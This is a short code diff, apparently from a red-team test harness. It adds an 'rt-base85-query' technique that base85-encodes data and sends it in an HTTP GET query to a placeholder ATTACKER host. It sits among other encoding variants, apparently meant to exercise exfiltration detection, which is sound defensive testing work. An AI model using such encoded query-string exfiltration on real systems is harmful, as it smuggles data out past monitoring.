@@ -139,6 +139,11 @@ def _split_query(size: int) -> Technique:
     return technique
 
 
+def _b85_query(value: bytes, rng: random.Random) -> tuple[list[Step], list[bytes]]:
+    quoted = urllib.parse.quote(base64.b85encode(value), safe="")
+    return [Step("http", ATTACKER, "GET", f"/c?d={quoted}")], [quoted.encode()]
+
+
 def _decimal(value: bytes) -> bytes:
     return ",".join(str(c) for c in value).encode()
 
@@ -183,6 +188,7 @@ REDTEAM: dict[str, tuple[str, Technique]] = {
         "rt-utf32": _raw(lambda v: _framed(v).decode().encode("utf-32")),
         "rt-b64-utf16": _raw(lambda v: b64(_framed(v).decode().encode("utf-16-le"))),
         "rt-base85": _raw(base64.b85encode),
+        "rt-base85-query": _b85_query,
         "rt-ascii85": _raw(lambda v: base64.a85encode(v, adobe=True)),
         "rt-decimal": _raw(_decimal),
         "rt-junk": _raw(_interleave),
